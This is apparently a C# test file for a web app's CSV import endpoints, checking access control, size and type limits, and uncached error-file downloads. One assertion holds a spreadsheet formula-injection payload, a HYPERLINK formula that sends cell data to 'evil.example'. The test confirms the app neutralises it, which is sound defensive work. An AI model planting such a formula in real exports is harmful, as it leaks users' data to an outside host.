namespace FunnelInsight.Tests.Web.Endpoints;

public abstract class ImportEndpointsTests(AccountsApp app)
{
    private const string NewEvents = "event_time,event_type,session_id\n2024-04-01T09:00:00Z,session_start,n1\n2024-04-01T09:02:00Z,add_to_cart,n1\n";

    [ProviderFact]
    public async Task A_member_downloads_their_error_file_uncached_with_the_imported_formula_neutralised()
    {
        using var client = await app.SignedInAsync("analyst");

        using var response = await client.GetAsync(new Uri($"stores/{app.AlphaId}/imports/{app.AlphaImportId}/errors.csv", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.True(response.Headers.CacheControl?.NoStore, "an error file (customer data) must not be cached");
        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        Assert.EndsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1),add_to_cart,s1\"", lines[1], StringComparison.Ordinal);
    }

    [ProviderTheory]
    [InlineData("stores/{A}/imports/{B}/errors.csv")]
    [InlineData("stores/{B}/imports/{B}/errors.csv")]
    public async Task A_member_of_store_a_gets_404_for_store_bs_error_file_and_none_of_its_rows(string path)
    {
        using var client = await app.SignedInAsync("owner");

        using var response = await client.GetAsync(new Uri(Path(path), UriKind.Relative));

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.DoesNotContain("bravo-secret", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [ProviderFact]
    public async Task A_token_of_store_a_gets_a_404_problem_for_store_bs_error_file()
    {
        using var client = app.WithToken("owner");

        using var response = await client.GetAsync(new Uri(Path("api/stores/{B}/imports/{B}/errors.csv"), UriKind.Relative));

        var problem = await Problems.AssertAsync(response, HttpStatusCode.NotFound);
        Assert.DoesNotContain("bravo", problem.GetRawText(), StringComparison.OrdinalIgnoreCase);
    }

    [ProviderTheory]
    [InlineData("marketer", HttpStatusCode.Forbidden)]
    [InlineData("analyst", HttpStatusCode.Forbidden)]
    [InlineData("bravo-owner", HttpStatusCode.NotFound)]
    public async Task Only_an_owner_of_the_store_can_upload(string who, HttpStatusCode expected)
    {
        using var client = app.WithToken(who);

        using var response = await UploadAsync(client, NewEvents, "events.csv");

        Assert.Equal(expected, response.StatusCode);
    }

    [ProviderFact]
    public async Task An_owner_uploads_an_export_which_is_imported_and_then_removed_from_disk()
    {
        using var client = app.WithToken("owner");

        using var response = await UploadAsync(client, NewEvents, "april.csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var body = await response.Content.ReadAsStringAsync();
        Assert.Contains("\"rowsStored\":2", body, StringComparison.Ordinal);
        Assert.Equal(1, await app.Db.CountAsync($"SELECT COUNT(*) FROM Imports WHERE StoreId = {app.AlphaId} AND FileName = 'april.csv'"));
        Assert.Empty(Directory.GetFiles(app.Db.Database.StoreFilesFolder(app.AlphaId)));
    }

    [ProviderFact]
    public async Task An_upload_that_is_not_csv_is_refused_with_the_reason()
    {
        using var client = app.WithToken("owner");

        using var response = await UploadAsync(client, "PK\u0003\u0004 workbook", "events.csv");

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
        Assert.Equal("\"events.csv\" is a ZIP archive or an Excel workbook, not a CSV export. Save it as CSV (comma separated) and upload that.", await DetailAsync(response));
    }

    [ProviderFact]
    public async Task An_upload_over_the_size_limit_is_refused_with_413_and_the_limit()
    {
        using var client = app.WithToken("owner");

        using var response = await UploadAsync(client, NewEvents + new string('x', (int)AccountsApp.MaxUploadBytes), "big.csv");

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.StartsWith("The file is larger than the upload limit of 4 KB.", await DetailAsync(response), StringComparison.Ordinal);
    }

    [ProviderFact]
    public async Task An_oversized_upload_sent_chunked_without_a_length_gets_the_same_413_and_message_as_a_sized_one()
    {
        var content = NewEvents + new string('x', 5 * (int)AccountsApp.MaxUploadBytes);
        using var sizedClient = app.WithToken("owner");
        using var sized = await UploadAsync(sizedClient, content, "big.csv");
        // A connection of its own: the server closes the one whose body it refused unread.
        using var client = app.WithToken("owner");
        using var request = new HttpRequestMessage(HttpMethod.Post, new Uri($"api/stores/{app.AlphaId}/imports/events?fileName=big.csv", UriKind.Relative))
        {
            Content = new StringContent(content, Encoding.UTF8, "text/csv"),
        };
        request.Headers.TransferEncodingChunked = true;

        using var chunked = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, chunked.StatusCode);
        Assert.Equal(await DetailAsync(sized), await DetailAsync(chunked));
        var uploads = app.Db.Database.StoreFilesFolder(app.AlphaId);
        Assert.False(Directory.Exists(uploads) && Directory.GetFiles(uploads).Length > 0, "the partial upload is removed");
    }

    [ProviderFact]
    public async Task An_anonymous_upload_gets_401()
    {
        using var client = app.App.Client();

        using var response = await UploadAsync(client, NewEvents, "events.csv");

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    private Task<HttpResponseMessage> UploadAsync(HttpClient client, string content, string fileName)
    {
        var body = new StringContent(content, Encoding.UTF8, "text/csv");
        return client.PostAsync(new Uri($"api/stores/{app.AlphaId}/imports/events?fileName={Uri.EscapeDataString(fileName)}", UriKind.Relative), body);
    }

    private static async Task<string?> DetailAsync(HttpResponseMessage response)
    {
        using var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        return problem.RootElement.GetProperty("detail").GetString();
    }

    private string Path(string template) =>
        template.Replace("stores/{A}", $"stores/{app.AlphaId}", StringComparison.Ordinal)
            .Replace("stores/{B}", $"stores/{app.BravoId}", StringComparison.Ordinal)
            .Replace("imports/{B}", $"imports/{app.BravoImportId}", StringComparison.Ordinal);
}

/// <summary>The tests of <see cref="ImportEndpointsTests"/> on SQLite.</summary>
[Collection(AccountsApp.Collection)]
public sealed class ImportEndpointsTestsOnSqlite(AccountsApp app) : ImportEndpointsTests(app);

/// <summary>The tests of <see cref="ImportEndpointsTests"/> on PostgreSQL.</summary>
[Collection(PostgresAccountsApp.Collection)]
public sealed class ImportEndpointsTestsOnPostgres(PostgresAccountsApp app) : ImportEndpointsTests(app), IRunsOnPostgres;
